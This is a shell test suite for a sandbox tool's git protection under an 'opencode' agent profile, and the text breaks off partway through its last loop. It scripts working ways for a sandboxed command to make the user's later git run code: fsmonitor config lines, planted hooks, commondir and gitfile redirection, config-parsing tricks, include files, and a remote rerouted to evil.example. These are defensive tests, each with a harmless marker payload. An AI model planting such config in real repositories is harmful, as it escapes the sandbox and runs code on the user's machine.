#!/bin/sh
# protect-git (issue 17, class 1; DESIGN.md §11): a sandboxed command
# tries every way to make the user's next, unsandboxed git run a command
# of its choosing (configuration, hooks, renaming .git, submodule and
# worktree metadata, a submodule's .git file), then the user runs git
# outside.  Each attack is first shown to work on a repository the
# policy does not protect, so that the check below can fail; under the
# opencode profile none may, and git keeps working inside and outside.
. "$LLW_SRCDIR/tests/lib/libtest.sh"

command -v git >/dev/null 2>&1 || skip_rest "git is not installed"
if ! bwrap_backend && ! userns_works; then
	# Without L3 the profile fails closed; the corpus covers that.
	expect_status "without user namespaces protect-git fails closed" 125 \
		llw -p opencode -- /bin/true
	done_testing
	exit
fi

# bubblewrap has no port rules: the opencode profile fails closed there
# unless best effort, which drops only those (the mounts stay).  Where
# llwrap refuses the profile (Yama keeps the supervisor out) there is
# nothing to test.
need_opencode_profile

git_fixture

# make_repo DIR: a repository with a commit, a submodule at lib/sub and
# a linked worktree at DIR-wt, made as the test user.
make_repo() {
	as_user /bin/sh -ec '
		d=$1
		git init -q "$d.sub"
		cd "$d.sub" && echo s >s && git add s && git commit -qm s
		git init -q "$d" && cd "$d"
		echo a >a && git add a && git commit -qm a
		git submodule add -q "$d.sub" lib/sub 2>/dev/null
		git commit -qm sub
		git worktree add -q "$d-wt" 2>/dev/null' sh "$1"
}

# The attacks, one per run; the command each plants touches $MARKS/ID.
ATTACK_SH='
m=$1
evil() { printf "[core]\n\tfsmonitor = touch %s/%s\n" "$m" "$1"; }
case $2 in
config) evil config >>.git/config ;;
hook) printf "#!/bin/sh\ntouch %s/hook\n" "$m" >.git/hooks/pre-commit &&
	chmod +x .git/hooks/pre-commit ;;
hook-unlisted) chmod 300 .git/hooks &&
	printf "#!/bin/sh\ntouch %s/hook-unlisted\n" "$m" >.git/hooks/pre-commit &&
	chmod +x .git/hooks/pre-commit ;;
rename) mv .git .git.old && cp -r .git.old .git && evil rename >>.git/config ;;
module) evil module >>.git/modules/lib/sub/config ;;
module-rename) mv .git/modules/lib/sub .git/modules/lib/sub.old &&
	cp -r .git/modules/lib/sub.old .git/modules/lib/sub &&
	evil module-rename >>.git/modules/lib/sub/config ;;
gitfile) cp -r .git/modules/lib/sub evil.git && evil gitfile >>evil.git/config &&
	printf "\tworktree = %s/lib/sub\n" "$PWD" >>evil.git/config &&
	printf "gitdir: %s/evil.git\n" "$PWD" >lib/sub/.git ;;
checkout-rename) cp -r .git/modules/lib/sub evil.git &&
	evil checkout-rename >>evil.git/config &&
	printf "\tworktree = %s/lib/sub\n" "$PWD" >>evil.git/config &&
	mv lib lib.old && mkdir -p lib/sub &&
	printf "gitdir: %s/evil.git\n" "$PWD" >lib/sub/.git ;;
worktree) cp -r .git evil.git && evil worktree >>evil.git/config &&
	for f in .git/worktrees/*/commondir; do
		printf "%s/evil.git\n" "$PWD" >"$f"; done ;;
commondir) cp -r .git evil.git && evil commondir >>evil.git/config &&
	printf "%s/evil.git\n" "$PWD" >.git/commondir ;;
gitlink) mkdir nested && cd nested && git init -q && echo n >n &&
	git add n && git commit -qm n && evil gitlink >>.git/config &&
	cd .. && git add nested 2>/dev/null ;;
header-split) # git ends the header at the first ] outside the quotes:
	# remote "x]url=a", its key uploadpack on the same line.
	printf "[remote \"x]url=a\"]uploadpack=touch %s/header-split; git-upload-pack\n\turl = %s\n" \
		"$m" "$PWD" >>.git/config ;;
esac
exit 0'
ATTACKS="config hook hook-unlisted rename module module-rename gitfile checkout-rename worktree
commondir gitlink header-split"

# host_git DIR: the user's next git commands, outside the sandbox.
host_git() {
	as_user /bin/sh -c '
		cd "$1" || exit 1
		git status >/dev/null 2>&1
		git -C lib/sub status >/dev/null 2>&1
		git -C "$1-wt" status >/dev/null 2>&1
		git commit -q --allow-empty -m host >/dev/null 2>&1
		git fetch -q --all >/dev/null 2>&1
		exit 0' sh "$1"
}

# attack_twice SCRIPT ATTACK SUFFIX HOST LABEL: ATTACK (of SCRIPT) in a
# fresh repository from make_repo, run from its checkout DIR$SUFFIX, first
# without protect-git (the default profile, the project writable), where
# it must work, so that the check under opencode can fail; then under
# opencode, where the user's git (HOST DIR) must not run the planted
# command.
attack_twice() {
	ctrl=$HOME_DIR/work/ctrl-$2
	make_repo "$ctrl"
	as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$ctrl$3" \
		-q -- /bin/sh -c "$1" sh "$MARKS" "$2" >/dev/null 2>&1
	"$4" "$ctrl"
	if [ -e "$MARKS/$2" ]; then
		ok "control: attack '$2'$5 redirects host git without protect-git"
	else
		not_ok "control: attack '$2'$5 should work without protect-git"
	fi
	rm -f "$MARKS"/*

	prot=$HOME_DIR/work/prot-$2
	make_repo "$prot"
	run llw -p opencode $BE -C "$prot$3" -q -- /bin/sh -c "$1" sh "$MARKS" "$2"
	expect_rc "opencode: attack '$2'$5 ran in the sandbox" 0
	"$4" "$prot"
	if [ -e "$MARKS/$2" ]; then
		not_ok "opencode: attack '$2'$5 ran a command in the user's git"
	else
		ok "opencode: attack '$2'$5 did not reach the user's git"
	fi
	rm -f "$MARKS"/*
}
printf '[filesystem]\nrwx = %s\n' "$HOME_DIR/work" >"$T/open.ini"
chmod 644 "$T/open.ini"
for a in $ATTACKS; do
	attack_twice "$ATTACK_SH" "$a" "" host_git ""
done
[ -d "$HOME_DIR/work/prot-rename/.git" ] &&
	[ ! -e "$HOME_DIR/work/prot-rename/.git.old" ] &&
	ok "... .git stayed in place (pinned)" || not_ok ".git was moved"

# The same attacks without user namespaces (Docker's default profile,
# simulated with llwrap-hooked): the monitor holds git's files there (M,
# DESIGN.md §14), undoing each change after the fact; none may reach the
# user's git.  private /tmp and a pid namespace of its own are L3's
# alone: off, as a container's policy would have them.
HOOKED=$LLW_HELPERS/llwrap-hooked
printf '[profile]\ninclude = opencode\n[filesystem]\nprivate-tmp = no\n[process]\nhide-processes = no\n[limits]\nprocesses = 1000000\n' >"$T/held.ini"
chmod 644 "$T/held.ini"
held() {
	as_user env LLW_HOOK_NO_USERNS=1 "$HOOKED" --rx "$LLW_HELPERS" \
		-p "$T/held.ini" "$@"
}
# Why the monitor's hold is not tested here, or nothing.  Where
# Landlock lacks truncate (ABI < 3: Debian 12's 6.1) the policy needs
# L3, which needs a user namespace: without one it fails closed, naming
# truncate(2), and there is nothing to hold.
held_skip=
if bwrap_backend; then
	held_skip="the monitor holds them on the Landlock backend"
elif [ ! -x "$HOOKED" ]; then
	held_skip="no $HOOKED"
elif [ "$(llwrap_abi)" -lt 3 ]; then
	run held -q -- /bin/true
	expect_rc "no user namespaces, Landlock ABI $(llwrap_abi): -p opencode fails closed" 125
	expect_output "... naming truncate(2), which nothing else holds" \
		"cannot enforce the policy: truncate\\(2\\)"
	held_skip="Landlock ABI $(llwrap_abi) has no truncate right, and L3 needs a user namespace"
fi
if [ -n "$held_skip" ]; then
	skip "git's files without user namespaces: $held_skip"
else
	for a in $ATTACKS; do
		prot=$HOME_DIR/work/held-$a
		make_repo "$prot"
		run held -C "$prot" -q -- /bin/sh -c "$ATTACK_SH" sh "$MARKS" "$a"
		# Without L3 the monitor races the command: a file it put
		# back as it was that the command changes again stops the
		# sandbox at once (125, said): as closed as a run to the end.
		if [ "$rc" -eq 125 ] && printf '%s\n' "$out" |
			grep -q "llwrap stopped the sandbox while the command ran"; then
			ok "no user namespaces: attack '$a' ran in the sandbox (stopped when it changed a held file again)"
		else
			expect_rc "no user namespaces: attack '$a' ran in the sandbox" 0
		fi
		[ "$a" != header-split ] ||
			expect_output "... named as git reads it" \
				"\\.git/config, which git \\(it sets remote\\.x\\]url=a\\.uploadpack\\)"
		host_git "$prot"
		if [ -e "$MARKS/$a" ]; then
			not_ok "no user namespaces: attack '$a' ran a command in the user's git"
			diag "$out"
		else
			ok "no user namespaces: attack '$a' did not reach the user's git"
		fi
		rm -f "$MARKS"/*
	done
	# The red team's second: a '\' at the end of a value continues it
	# over the next line, so the header there is part of tagOpt's value
	# and the url after it is origin's second: the user's git push sends
	# there too.  A reader by lines saw submodule.x.url.  First without
	# llwrap (so the check can fail), then held.
	CONT_SH='printf "[remote \"origin\"]\n\ttagOpt = --no-tags \\\\\n[submodule \"x\"]\n\turl = %s\n" "$1" >>.git/config'
	for how in ctrl held; do
		d=$HOME_DIR/work/cont-$how
		make_repo "$d"
		as_user /bin/sh -ec 'git init -q --bare "$1.origin" && git init -q --bare "$1.loot" &&
			cd "$1" && git remote add origin "$1.origin" && git push -q origin HEAD:refs/heads/main' sh "$d"
		if [ $how = ctrl ]; then
			as_user /bin/sh -c 'cd "$1" && /bin/sh -c "$2" sh "$1.loot"' sh "$d" "$CONT_SH"
		else
			run held -C "$d" -q -- /bin/sh -c "$CONT_SH" sh "$d.loot"
			expect_output "no user namespaces: a url continued over a header is named as git reads it" \
				"\\.git/config, which git \\(it sets remote\\.origin\\.url\\)"
		fi
		as_user /bin/sh -c 'cd "$1" && git commit -q --allow-empty -m host && git push -q origin HEAD:refs/heads/main' sh "$d" >/dev/null 2>&1
		if as_user git -C "$d.loot" rev-parse -q --verify refs/heads/main >/dev/null; then
			[ $how = ctrl ] && ok "control: a url continued over a header takes the user's git push" ||
				not_ok "no user namespaces: a url continued over a header took the user's git push"
		else
			[ $how = ctrl ] && not_ok "control: a url continued over a header should take the user's git push" ||
				ok "no user namespaces: a url continued over a header did not take the user's git push"
		fi
	done
	# Where the kernel's times are coarse (before 6.13, or a file system
	# without fine-grained ones: ext2 here), a change in place of the same
	# length right after the monitor restores the config keeps its size
	# and times: the end's check compares the content all the same.  The
	# command tries until its write kept the times it saw.
	COARSE_PY='
import os, sys, time
cfg = ".git/config"
orig = open(cfg, "rb").read()
evil = ("[core]\n\tfsmonitor = touch %s/coarse\n" % sys.argv[1]).encode()
evil += b"#" * (len(orig) - len(evil) - 1) + b"\n"
for attempt in range(50):
    ino = os.stat(cfg).st_ino
    with open(cfg, "ab") as f:
        f.write(b"[core]\n\tfsmonitor = true\n")
    t = time.time()
    st = None
    while time.time() - t < 2:
        try:
            st = os.stat(cfg)
        except FileNotFoundError:
            continue
        if st.st_ino != ino and st.st_size == len(orig):
            break
    fd = os.open(cfg, os.O_WRONLY)
    os.pwrite(fd, evil, 0)
    os.close(fd)
    now = os.stat(cfg)
    if st is not None and now.st_ctime_ns == st.st_ctime_ns and \
            now.st_mtime_ns == st.st_mtime_ns:
        print("kept the times")
        break
'
	coarse=$HOME_DIR/work/coarse
	if [ "$(id -u)" -ne 0 ] || ! command -v mkfs.ext2 >/dev/null ||
		! command -v python3 >/dev/null; then
		skip "a change in place with coarse times: needs root, mkfs.ext2 and python3"
	elif ! { mkdir -p "$coarse" && dd if=/dev/zero of="$T/coarse.img" bs=1M count=16 status=none &&
		mkfs.ext2 -q "$T/coarse.img" && mount -o loop "$T/coarse.img" "$coarse"; } 2>/dev/null; then
		skip "a change in place with coarse times: no ext2 loop mount here"
	else
		chown "$TEST_UID:$TEST_GID" "$coarse"
		make_repo "$coarse/r"
		run held -C "$coarse/r" -q -- python3 -c "$COARSE_PY" "$MARKS"
		host_git "$coarse/r"
		if ! printf '%s\n' "$out" | grep -q "^kept the times"; then
			skip "a change in place with coarse times: the command's write never kept them (status $rc)"
		elif [ -e "$MARKS/coarse" ]; then
			not_ok "no user namespaces: a same-length change right after a restore ran a command in the user's git"
			diag "$out"
		else
			ok "no user namespaces: a same-length change right after a restore (coarse times) did not reach the user's git"
		fi
		rm -f "$MARKS"/*
		umount "$coarse"
	fi
	# .git renamed in place (no REFER needed within the project's own
	# directory) and a .git file naming a repository with an unsafe
	# config put there: the file is moved aside, never followed, and
	# the run fails loudly (the repository itself went elsewhere).
	prot=$HOME_DIR/work/held-gitfile-root
	make_repo "$prot"
	run held -C "$prot" -q -- /bin/sh -c '
		mv .git .git.old && cp -r .git.old evil.git &&
		printf "[core]\n\tfsmonitor = touch %s/gitfile-root\n" "$1" >>evil.git/config &&
		printf "gitdir: %s/evil.git\n" "$PWD" >.git' sh "$MARKS"
	host_git "$prot"
	if [ -e "$MARKS/gitfile-root" ]; then
		not_ok "no user namespaces: a .git file in place of .git ran a command in the user's git"
		diag "$out"
	elif [ "$rc" -eq 125 ] && [ ! -f "$prot/.git" ] &&
		printf '%s\n' "$out" | grep -q "^llwrap: the command replaced $prot/\.git, .*moved aside to $prot/\.git\.llwrap-blocked-"; then
		ok "no user namespaces: a .git file in place of .git is moved aside (125), not followed by the user's git"
	else
		not_ok "a .git file in place of .git is moved aside and the run fails"; diag "status $rc: $out"
	fi
	rm -f "$MARKS"/*
	# Where the user's next git reads or sends, changed in a config that
	# runs nothing: the remote's address (the next push would send the
	# code elsewhere) and the work tree (the next add would take another
	# tree) are undone; a branch pointed at the start's remote, as git
	# push -u does, is kept.
	prot=$HOME_DIR/work/held-reroute
	make_repo "$prot"
	url=$(as_user git -C "$prot" config remote.origin.url 2>/dev/null || true)
	[ -n "$url" ] || as_user git -C "$prot" remote add origin "$prot.sub"
	url=$(as_user git -C "$prot" config remote.origin.url)
	run held -C "$prot" -q -- /bin/sh -c '
		git remote set-url origin https://evil.example/x.git &&
		git config core.worktree "$HOME" &&
		git config branch.main.remote origin'
	now_url=$(as_user git -C "$prot" config remote.origin.url)
	now_wt=$(as_user git -C "$prot" config core.worktree || true)
	if [ "$now_url" = "$url" ] && [ -z "$now_wt" ] &&
		printf '%s\n' "$out" | grep -q "remote.origin.url\|core.worktree"; then
		ok "no user namespaces: a remote's new address and core.worktree are undone, and named"
	else
		not_ok "no user namespaces: a remote's new address and core.worktree are undone"
		diag "status $rc, url '$now_url' (was '$url'), worktree '$now_wt': $out"
	fi
fi

# The project is a linked worktree (git worktree add): its repository,
# <main>/.git/worktrees/<name> and the common <main>/.git, lies outside
# the project.  git must work there, and the same attacks, aimed at the
# repository the worktree shares, must not reach the user's git in
# either checkout.
LINKED_SH='
m=$1
evil() { printf "[core]\n\tfsmonitor = touch %s/%s\n" "$m" "$1"; }
gd=$(git rev-parse --absolute-git-dir) || exit 0
cd=$(cd "$(git rev-parse --git-common-dir)" && pwd)
case $2 in
l-config) evil l-config >>"$cd/config" ;;
l-hook) printf "#!/bin/sh\ntouch %s/l-hook\n" "$m" >"$cd/hooks/pre-commit" &&
	chmod +x "$cd/hooks/pre-commit" ;;
l-commondir) cp -r "$cd" evil.git && evil l-commondir >>evil.git/config &&
	printf "%s/evil.git\n" "$PWD" >"$gd/commondir" ;;
l-gitfile) cp -r "$gd" evil.gd && cp -r "$cd" evil.git &&
	printf "%s/evil.git\n" "$PWD" >evil.gd/commondir &&
	evil l-gitfile >>evil.git/config && printf "gitdir: %s/evil.gd\n" "$PWD" >.git ;;
l-module) evil l-module >>"$cd/modules/lib/sub/config" ;;
l-gitlink) mkdir nested && cd nested && git init -q && echo n >n &&
	git add n && git commit -qm n && evil l-gitlink >>.git/config &&
	cd .. && git add nested 2>/dev/null ;;
esac
exit 0'
host_git_linked() {
	as_user /bin/sh -c '
		cd "$1" && git status >/dev/null 2>&1
		git -C lib/sub status >/dev/null 2>&1
		cd "$1-wt" && git status >/dev/null 2>&1
		git commit -q --allow-empty -m host >/dev/null 2>&1
		git fetch -q --all >/dev/null 2>&1
		exit 0' sh "$1"
}
for a in l-config l-hook l-commondir l-gitfile l-module l-gitlink; do
	attack_twice "$LINKED_SH" "$a" -wt host_git_linked " from a linked worktree"
done
L=$HOME_DIR/work/linked
make_repo "$L"
run llw -p opencode $BE -C "$L-wt" -q -- /bin/sh -c \
	'git status --porcelain && echo w >w && git add w && git commit -qm w &&
	git branch side && git log --oneline | wc -l && cat ../linked/a'
expect_output "linked worktree: git status, add, commit and branch work inside" "^3$"
expect_output "... while the main checkout stays out of reach" "Permission denied|No such file"
as_user git -C "$L" log --oneline side >/dev/null 2>&1 &&
	ok "... and the branch made inside is the user's" ||
	not_ok "the branch made inside is missing"
run llw -p opencode $BE -C "$L-wt" -q -- /bin/sh -c \
	'echo "[core] fsmonitor = x" >"$(git rev-parse --absolute-git-dir)/config.worktree"'
expect_output "... a config.worktree created inside its repository is moved aside" \
	"the command created $L/\\.git/worktrees/linked-wt/config\\.worktree, which git reads later"
printf '[filesystem]\ndeny = %s\n' "$L/.git" >"$T/deny-main.ini"
chmod 644 "$T/deny-main.ini"
run llw -p opencode -p "$T/deny-main.ini" $BE -C "$L-wt" -q -- /bin/sh -c \
	'git status >/dev/null 2>&1 && echo GIT-WORKS; cat "$0/HEAD"' "$L/.git"
expect_no_output "... a rule that denies the repository by name keeps it denied" "GIT-WORKS|ref:"
# A .git file that names another directory (as a command could plant in
# a project without a repository) is not made writable: L3's sealed view
# shows the other project as a placeholder of mode 000 (EACCES).
F=$HOME_DIR/work/fake
mkdir -p "$F" "$OTHER/worktrees/x"
printf 'gitdir: %s/worktrees/x\n' "$OTHER" >"$F/.git"
chown -R "$TEST_UID:$TEST_GID" "$F" "$OTHER"
run llw -p opencode $BE -C "$F" -q -- "$PROBE" write "$OTHER/worktrees/x/planted"
expect_was_denied "a .git file naming another directory does not open it" 'landlock:EACCES|bwrap:ENOENT'

make_repo "$PROJ"
# A commondir created inside has nothing to mount on: the monitor moves
# it aside as soon as it is made, never deleting it, and names it.
rm -f "$PROJ/.git/commondir"
run llw -p opencode $BE -- /bin/sh -c 'echo /nowhere >.git/commondir'
expect_output "a .git/commondir created inside is moved aside and named" \
	"the command created $PROJ/\\.git/commondir, which git reads later, outside the sandbox: moved aside to $PROJ/\\.git/commondir\\.llwrap-blocked-[0-9]+"
[ ! -e "$PROJ/.git/commondir" ] && grep -qx /nowhere "$PROJ"/.git/commondir.llwrap-blocked-* &&
	ok "... it is gone from its name, its content kept beside it" ||
	not_ok "commondir was not moved aside intact"
rm -f "$PROJ"/.git/commondir*
run llw -p opencode $BE -- /bin/true
expect_no_output "... and nothing is said when nothing was created" "the command created"
# A nested repository registered in the index (a gitlink): its .git is
# moved aside; the user's own submodule (lib/sub) is left alone.
N=$HOME_DIR/work/nested
make_repo "$N"
# (An index of version 4, with its compressed paths, as git writes for
# feature.manyFiles.)
run llw -p opencode $BE -C "$N" -q -- /bin/sh -c \
	'git update-index --index-version 4 && mkdir -p nest && cd nest && git init -q && echo n >n && git add n &&
	git commit -qm n && cd .. && git add nest 2>/dev/null && git commit -qm nest'
expect_output "a new gitlink's repository is moved aside" \
	"the command created $N/nest/\\.git, which git \\(a submodule's repository\\) reads later"
[ ! -e "$N/nest/.git" ] && [ -d "$N"/nest/.git.llwrap-blocked-* ] &&
	[ -f "$N/lib/sub/.git" ] &&
	ok "... kept beside it, and lib/sub's .git untouched" ||
	not_ok "nest/.git or lib/sub/.git in the wrong state"

# The legitimate twin: git works inside, and normally outside after.
run llw -p opencode $BE -q -- /bin/sh -c \
	'echo b >>a && git add a && git commit -qm inside && git status --short &&
	git -C lib/sub status --short && git submodule status'
expect_rc "git add, commit, status and submodule status work inside" 0
run as_user /bin/sh -c "cd '$PROJ' && git log --format=%s && git status --short && git fsck --no-progress"
expect_rc "... and host git works normally afterwards" 0
expect_output "... and sees the sandbox's commit" "^inside$"

# A denied file that git tracks unchanged (.env with a project's
# defaults, committed) hides nothing: its contents are in .git, which the
# command reads.  It is read-only instead of hidden, so that git keeps
# working; once changed, or untracked, it is hidden again.
E=$HOME_DIR/work/envrepo
as_user /bin/sh -ec '
	git init -q "$1" && cd "$1"
	echo a >a && echo PUBLIC_DEFAULT=1 >.env && git add a .env &&
	git commit -qm init
	# Out of the tick the index is written in (racily clean otherwise).
	touch -d "@$(($(date +%s) - 60))" .env && git update-index -q --refresh' sh "$E"
run llw -p opencode $BE -C "$E" -- /bin/sh -c \
	'cat .env; git status --porcelain; echo b >>a && git commit -qam b && echo COMMITTED'
expect_rc "a tracked, unchanged .env: git status and commit -a work inside" 0
expect_output "... its committed contents are readable" "^PUBLIC_DEFAULT=1$"
expect_no_output "... git does not see it changed" "\\.env"
expect_output "... and the commit went through" "^COMMITTED$"
run llw -p opencode $BE -C "$E" -- /bin/sh -c 'echo x >>.env'
expect_rc "... it stays read-only" 2
expect_output "... refused as read-only" "Read-only file system|Permission denied"
run llw -p opencode $BE -C "$E" --explain -- /bin/true
expect_output "--explain says it is read-only, not hidden, and why" \
	"mask ro $E/\\.env.*not hidden: git tracks it unchanged"
as_user /bin/sh -c 'echo SECRET_TOKEN=s3cr3t >>"$1/.env"' sh "$E"
run llw -p opencode $BE -C "$E" -- /bin/sh -c 'cat .env; git show :.env'
expect_no_output "a changed tracked .env is hidden again" "s3cr3t"
expect_output "... only what git holds is readable" "^PUBLIC_DEFAULT=1$"
as_user /bin/sh -ec 'cd "$1" && git rm -q --cached .env && echo .env >.gitignore' sh "$E"
run llw -p opencode $BE -C "$E" -- /bin/sh -c 'cat .env'
expect_no_output "an untracked .env is hidden" "s3cr3t|PUBLIC_DEFAULT"

# Started in a subdirectory (issue 25): the project is the top level of
# the work tree git finds there, and the command starts where it was
# started.  Without that, git stops with "not a git repository" and the
# parent directory is out of reach.
# in_dir DIR ARGS...: llwrap (with the suite's backend) as the test user,
# started in DIR.
in_dir() {
	_d=$1
	shift
	as_user /bin/sh -c 'cd "$1" && shift && exec "$@"' sh "$_d" \
		$LLWRAP_B --rx "$LLW_HELPERS" "$@"
}
run in_dir "$PROJ/src" -p opencode $BE -q -- /bin/sh -c \
	'pwd; cat ../a; echo made >../from-sub && echo c >>../a &&
	git add ../a ../from-sub && git commit -qm from-sub && echo COMMITTED'
expect_rc "from a subdirectory: the command runs" 0
expect_output "... it starts in that subdirectory" "^$PROJ/src\$"
expect_output "... the repository's top level is readable (../a)" "^a\$"
expect_output "... and git add and commit work there" "^COMMITTED\$"
[ -f "$PROJ/from-sub" ] && as_user git -C "$PROJ" log -1 --format=%s | grep -qx from-sub &&
	ok "... host: the file and the commit are in the repository" ||
	not_ok "... host: the file and the commit are in the repository"
run in_dir "$PROJ/src" -p opencode $BE -q -- /usr/bin/env
expect_output "... with PWD naming it, as a shell sets it" "^PWD=$PROJ/src\$"
# Files run later in the directories between it and the top level are
# protected too (an agent started there reads opencode.json there).
run in_dir "$PROJ/src" -p opencode $BE -- /bin/sh -c 'echo "{}" >opencode.json'
expect_output "... an opencode.json created in the working directory is moved aside" \
	"the command created $PROJ/src/opencode\\.json, .*moved aside"
rm -f "$PROJ"/src/opencode.json*
run in_dir "$PROJ/src" -p opencode $BE --explain -- /bin/true
expect_output "--explain names the project and why it is the top level" \
	"^  project: $PROJ, the top level of the git work tree that holds the working directory $PROJ/src"
run in_dir "$PROJ/src" -p opencode $BE -C . -q -- "$PROBE" read "$PROJ/a"
expect_was_denied "-C . makes the subdirectory the project: ../a is out of reach" 'landlock:EACCES|bwrap:ENOENT'
run in_dir "$PROJ/src" -p opencode $BE -C . -q -- "$PROBE" write "$PROJ/src/x"
case "$rc:$out" in 0:*SUCCEEDED*) ok "... while the subdirectory is writable" ;;
*) not_ok "... while the subdirectory is writable"; diag "status $rc: $out" ;; esac
# A linked worktree's subdirectory: the worktree, not the main checkout.
as_user mkdir -p "$PROJ-wt/deep/er"
run in_dir "$PROJ-wt/deep/er" -p opencode $BE -q -- /bin/sh -c \
	'echo w >w && git add w && git commit -qm wt-sub && echo COMMITTED; cat "$0/a"' "$PROJ"
expect_output "from a linked worktree's subdirectory: git commit works" "^COMMITTED\$"
expect_output "... the main checkout stays out of reach" "Permission denied|No such file"
# A home that is a repository (dotfiles kept in ~/.git) is never taken
# as the project: refused, naming -C.
as_user git init -q "$HOME_DIR"
as_user mkdir -p "$HOME_DIR/notes"
marker=$OUTSIDE/ran-in-home
rm -f "$marker"
run in_dir "$HOME_DIR/notes" -p opencode $BE -- /bin/sh -c 'touch "$0"' "$marker"
if [ "$rc" -eq 125 ] && [ ! -e "$marker" ] &&
	printf '%s\n' "$out" | grep -q "is in the git work tree $HOME_DIR, which would be the project.*-C \\."; then
	ok "a repository that is the home is refused as the project, naming -C ."
else
	not_ok "a repository that is the home is refused as the project"
	diag "status $rc: $out"
fi
run in_dir "$HOME_DIR/notes" -p opencode $BE -C . -q -- "$PROBE" read "$OTHER/notes.txt"
expect_was_denied "... with -C . the working directory alone is the project" 'landlock:EACCES|bwrap:ENOENT'
rm -rf "$HOME_DIR/.git" "$HOME_DIR/notes"
# Review V: a project nested in another work tree (a monorepo's parent,
# ~/work kept in git), its own repository broken by the command (junk in
# .git/HEAD: git then takes the work tree above): the next run from the
# project stays the project, never the work tree above with its
# neighbours.
NEST=$HOME_DIR/work/nest
as_user /bin/sh -c 'git init -q "$1" && mkdir -p "$1/proj" "$1/other" && git init -q "$1/proj"' sh "$NEST"
run in_dir "$NEST/proj" -p opencode $BE -q -- /bin/sh -c 'echo junk >.git/HEAD && echo BROKE'
expect_output "a command breaks its nested project's .git/HEAD" "^BROKE$"
run in_dir "$NEST/proj" -p opencode $BE -q -- "$PROBE" write "$NEST/other/x"
expect_was_denied "... the next run from the project cannot write the neighbour beside it" 'landlock:EACCES|bwrap:ENOENT'
run in_dir "$NEST/proj" -p opencode $BE -q -- "$PROBE" write "$NEST/proj/y"
case "$rc:$out" in 0:*SUCCEEDED*) ok "... while the project itself is writable" ;;
*) not_ok "... while the project itself is writable"; diag "status $rc: $out" ;; esac
rm -rf "$NEST"

# Review of 2026-11-27, H4 (p6, p8): git reads more configuration than
# .git/config, through include.path and includeIf.*.path, relative to the
# file that names them, and takes core.hooksPath from any of it.  Each
# included file the command could write is read-only (EROFS: the mount,
# L3 or bubblewrap's), a missing one is moved aside when made, and a
# hooksPath set in a file ~/.gitconfig includes is protected as .git/hooks
# is.  First without protect-git, so that each check can fail.
# inc_repo DIR: a repository with a commit whose config includes the
# project's .gitconfig (an alias there) and a missing ../local.inc.
inc_repo() {
	as_user /bin/sh -ec '
		git init -q "$1" && cd "$1"
		echo a >a && git add a && git commit -qm a
		printf "[alias]\n\tlg = log --oneline\n" >.gitconfig
		git config --add include.path ../.gitconfig
		git config --add includeIf.gitdir:/.path ../local.inc' sh "$1"
}
INC_SH='printf "[core]\n\tfsmonitor = touch %s/%s\n" "$1" "$2" >>"$3"'
for how in ctrl prot; do
	I=$HOME_DIR/work/inc-$how
	inc_repo "$I"
	for f in .gitconfig local.inc; do
		mark=inc-$how-$(echo "$f" | tr . _)
		if [ $how = ctrl ]; then
			as_user "$LLWRAP" -p default -p "$T/open.ini" --best-effort -C "$I" \
				-q -- /bin/sh -c "$INC_SH" sh "$MARKS" "$mark" "$f" >/dev/null 2>&1
		else
			run llw -p opencode $BE -C "$I" -q -- /bin/sh -c "$INC_SH" sh "$MARKS" "$mark" "$f"
		fi
		as_user git -C "$I" status >/dev/null 2>&1
		case $how:$f in
		ctrl:*)
			[ -e "$MARKS/$mark" ] &&
				ok "control: a command in $f, which .git/config includes, runs in the user's git" ||
				not_ok "control: a command in $f, which .git/config includes, should run in the user's git"
			;;
		prot:.gitconfig)
			[ ! -e "$MARKS/$mark" ] && grep -q "lg = log" "$I/.gitconfig" &&
				! grep -q fsmonitor "$I/.gitconfig" &&
				ok "opencode: the project's .gitconfig, which .git/config includes, cannot be changed" ||
				{ not_ok "opencode: the project's .gitconfig, which .git/config includes, was changed"; diag "status $rc: $out"; }
			;;
		prot:local.inc)
			if [ ! -e "$MARKS/$mark" ] && [ ! -e "$I/local.inc" ] &&
				printf '%s\n' "$out" | grep -q "the command created $I/local\\.inc, which git reads later.*moved aside"; then
				ok "opencode: a missing file .git/config includes, made inside, is moved aside and named"
			else
				not_ok "opencode: a missing file .git/config includes, made inside, is moved aside"
				diag "status $rc: $out"
			fi
			;;
		esac
		rm -f "$MARKS"/*
	done
done
run llw -p opencode $BE -C "$I" -q -- "$PROBE" append "$I/.gitconfig"
expect_was_denied "... the write is refused by the mount" EROFS
run llw -p opencode $BE -C "$I" --explain -- /bin/true
expect_output "... --explain names it, and what includes it" \
	"mask ro $I/\\.gitconfig.*included by $I/\\.git/config"
expect_output "... and the missing one, watched for" \
	"$I/local\\.inc \\(included by $I/\\.git/config\\) does not exist: one created inside the sandbox is moved aside"
# The legitimate neighbour: git reads the included alias, commits inside,
# and works on the host after.
run llw -p opencode $BE -C "$I" -q -- /bin/sh -c \
	'echo b >>a && git commit -qam inside && git lg | wc -l'
expect_output "... git reads the include and commits inside" "^2$"
run as_user /bin/sh -c "cd '$I' && git status --short && git log -1 --format=%s"
expect_output "... and host git works after, seeing the commit" "^inside$"

# Without user namespaces the monitor holds the include as it holds
# .git/config: a change is moved aside and the start's content restored.
if [ -z "$held_skip" ]; then
	I=$HOME_DIR/work/inc-held
	inc_repo "$I"
	run held -C "$I" -q -- /bin/sh -c "$INC_SH" sh "$MARKS" inc-held .gitconfig
	as_user git -C "$I" status >/dev/null 2>&1
	if [ ! -e "$MARKS/inc-held" ] && ! grep -q fsmonitor "$I/.gitconfig" &&
		printf '%s\n' "$out" | grep -q "changed $I/\.gitconfig, which git reads later.*moved aside"; then
		ok "no user namespaces: a change to an included .gitconfig is moved aside and undone"
	else
		not_ok "no user namespaces: a change to an included .gitconfig is moved aside and undone"
		diag "status $rc: $out"
	fi
	rm -f "$MARKS"/*
fi

# p8: core.hooksPath in a file the user's ~/.gitconfig includes (a shared
# hooks setup), naming the project's .githooks: its hooks are read-only as
# .git/hooks is.  The user's include outside the project stays readable
# and is not made a mount (nothing there is writable).
cp "$HOME_DIR/.gitconfig" "$T/gitconfig.saved"
printf '[include]\n\tpath = ~/hooks.inc\n' >>"$HOME_DIR/.gitconfig"
printf '[core]\n\thooksPath = .githooks\n[llwtest]\n\tshared = yes\n' >"$HOME_DIR/hooks.inc"
chown "$TEST_UID:$TEST_GID" "$HOME_DIR/hooks.inc"
HP_SH='printf "#!/bin/sh\ntouch %s/%s\n" "$1" "$2" >.githooks/pre-commit'
for how in ctrl prot; do
	H=$HOME_DIR/work/hookspath-$how
